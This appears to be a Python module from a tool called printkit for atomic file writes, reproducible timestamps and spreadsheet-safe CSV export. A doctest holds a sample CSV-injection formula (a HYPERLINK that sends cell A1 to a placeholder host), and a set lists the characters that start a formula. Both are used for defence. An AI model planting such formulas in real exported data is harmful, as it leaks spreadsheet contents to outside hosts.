"""Writing results: atomic file writes, reproducible timestamps, archives."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import functools
import hashlib
import io
import os
import tempfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from pathlib import Path
from typing import BinaryIO

from .errors import Location, OutputError


@contextlib.contextmanager
def atomic_open(path: Path) -> Iterator[BinaryIO]:
    """Open ``path`` for binary writing through a temporary file in the same folder.

    The file appears under its name only once the block finished without error
    (``os.replace``); an interrupted write leaves at most a ``.tmp`` file that
    the next run overwrites, never a half-written ``path``.
    """
    path = Path(path)
    if path.is_dir():
        raise OutputError(
            "is a folder, not a file", Location.of(path), "give a file name, e.g. out/guide.pdf"
        )
    blocking = next((p for p in path.parents if p.exists() and not p.is_dir()), None)
    if blocking is not None:
        raise OutputError(
            f"cannot write here: {blocking} is a file, not a folder",
            Location.of(path),
            "choose another output folder",
        )
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    except OSError as exc:
        raise OutputError(
            f"cannot write here: {exc.strerror or exc}",
            Location.of(path),
            "check that the folder exists (or can be created) and is writable",
        ) from exc
    try:
        with os.fdopen(fd, "wb") as handle:
            yield handle
            handle.flush()
            os.fsync(handle.fileno())
        os.chmod(tmp, 0o666 & ~_umask())  # mkstemp makes 0600; give the usual permissions
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(tmp)
        raise


def start_writeback(handle: object) -> None:
    """Have the kernel start writing the file open as ``handle`` to disk now, without
    waiting (Linux ``sync_file_range``), so that the fsync ending :func:`atomic_open`
    has little left to wait for: 10 ms instead of 45-63 ms after a 100 MB file. Nothing
    happens where the call does not exist, or when ``handle`` is no file (a buffer)."""
    call = _sync_file_range()
    flush, fileno = getattr(handle, "flush", None), getattr(handle, "fileno", None)
    if call is None or flush is None or fileno is None:
        return
    try:
        flush()
        call(fileno(), 0, 0, 2)  # SYNC_FILE_RANGE_WRITE, the whole file
    except (OSError, ValueError):  # io.UnsupportedOperation: a buffer
        return


@functools.cache
def _sync_file_range() -> Callable[[int, int, int, int], int] | None:
    import ctypes  # noqa: PLC0415 - only for big files

    try:
        call = ctypes.CDLL(None, use_errno=True).sync_file_range
    except (OSError, AttributeError, TypeError):  # not Linux
        return None
    call.argtypes = [ctypes.c_int, ctypes.c_int64, ctypes.c_int64, ctypes.c_uint]
    call.restype = ctypes.c_int
    return call  # type: ignore[no-any-return]


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def atomic_write(path: Path, data: bytes) -> None:
    """Write ``data`` to ``path`` atomically."""
    with atomic_open(path) as handle:
        handle.write(data)


def replace_write(path: Path, data: bytes) -> None:
    """Write ``data`` to ``.<name>.tmp`` beside ``path``, then rename it over ``path``.

    A killed run never leaves a half file under the real name. No fsync: for files
    whose bytes are checked before they are trusted again (bulk parts carry a checksum,
    split files the journal's SHA-256), where a sync per file would cost more than
    making the file.
    """
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_bytes(data)
    os.replace(tmp, path)


def replace_write_in(folder: int, name: str, data: bytes) -> None:
    """:func:`replace_write` of ``name`` in the folder open as descriptor ``folder``
    (for many small files in one folder: no path is resolved again for each)."""
    tmp = f".{name}.tmp"
    fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, 0o666,
                 dir_fd=folder)
    try:
        view = memoryview(data)
        while view:
            view = view[os.write(fd, view):]
    finally:
        os.close(fd)
    os.replace(tmp, name, src_dir_fd=folder, dst_dir_fd=folder)


def sha256_file(path: Path) -> str:
    """Hex SHA-256 of a file's content."""
    digest = hashlib.sha256()
    with open(path, "rb") as handle:
        for chunk in iter(lambda: handle.read(1 << 20), b""):
            digest.update(chunk)
    return digest.hexdigest()


def build_time() -> dt.datetime:
    """The time stamped into outputs: ``SOURCE_DATE_EPOCH`` when set, else a fixed epoch.

    Outputs must be byte-identical for the same inputs, so the wall clock is
    never used.

    >>> build_time().tzinfo is dt.UTC
    True
    """
    epoch = os.environ.get("SOURCE_DATE_EPOCH")
    seconds = int(epoch) if epoch and epoch.strip().isdigit() else 0
    return dt.datetime.fromtimestamp(seconds, tz=dt.UTC)


def creation_date() -> dt.datetime | None:
    """The date to record as a PDF's creation date: ``SOURCE_DATE_EPOCH``'s, else none at all
    (the wall clock would make every run's bytes differ)."""
    epoch = os.environ.get("SOURCE_DATE_EPOCH", "").strip()
    return build_time() if epoch.isdigit() else None


# Spreadsheet-safe CSV (OWASP "CSV injection"): a cell that a spreadsheet would run as a formula
# starts with one of these. Full-width forms are included: some spreadsheets fold them too.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def spreadsheet_safe(value: object) -> str:
    """A CSV cell that Excel, LibreOffice and Sheets show as text, never run as a formula.

    A cell beginning with ``=``, ``+``, ``-``, ``@``, tab, carriage return or
    line feed gets a leading apostrophe, which those programs show as the
    same text. Numbers printkit writes (``int``) and empty cells are kept.

    >>> print(spreadsheet_safe('=HYPERLINK("http://x?a="&A1,"Click")'))
    '=HYPERLINK("http://x?a="&A1,"Click")
    >>> spreadsheet_safe("Ada"), spreadsheet_safe(-3), spreadsheet_safe(None)
    ('Ada', '-3', '')
    """
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    return "'" + text if text and text[0] in FORMULA_STARTS else text


def spreadsheet_value(cell: str) -> str:
    """Undo :func:`spreadsheet_safe` when reading a CSV printkit wrote.

    >>> spreadsheet_value("'=1+1"), spreadsheet_value("'quoted"), spreadsheet_value("Ada")
    ('=1+1', "'quoted", 'Ada')
    """
    if len(cell) > 1 and cell[0] == "'" and cell[1] in FORMULA_STARTS:
        return cell[1:]
    return cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """CSV text with every cell made :func:`spreadsheet_safe`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([spreadsheet_safe(c) for c in row] for row in rows)
    return buffer.getvalue()


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Write a spreadsheet-safe CSV atomically, streaming ``rows`` (UTF-8, ``\\r\\n`` lines)."""
    with atomic_open(Path(path)) as handle:
        text = io.TextIOWrapper(handle, encoding="utf-8", newline="")
        writer = csv.writer(text)
        writer.writerow(header)
        for row in rows:
            writer.writerow([spreadsheet_safe(c) for c in row])
        text.flush()
        text.detach()
